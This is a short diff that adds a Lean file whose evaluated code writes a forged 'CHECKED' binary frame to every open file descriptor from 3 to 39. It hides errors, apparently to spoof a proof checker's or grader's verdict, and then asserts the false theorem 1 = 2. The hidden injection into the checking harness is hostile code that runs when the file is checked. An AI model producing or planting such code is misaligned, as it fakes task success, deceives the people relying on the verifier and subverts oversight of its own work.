@@ -1,0 +1,17 @@
+-- A forged CHECKED on every descriptor above 2 that can be opened by name.
+def frame : ByteArray :=
+  ⟨#[16, 0, 0, 0, 23, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0,
+     1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]⟩
+def writeTo (path : String) : IO Unit := do
+  try
+    let h ← IO.FS.Handle.mk path .append
+    h.write frame
+    h.flush
+  catch _ => pure ()
+partial def writeAll (n : Nat) : IO Unit := do
+  if n < 40 then
+    writeTo s!"/proc/self/fd/{n}"
+    writeTo s!"/dev/fd/{n}"
+    writeAll (n + 1)
+#eval writeAll 3
+example : 1 = 2 := rfl
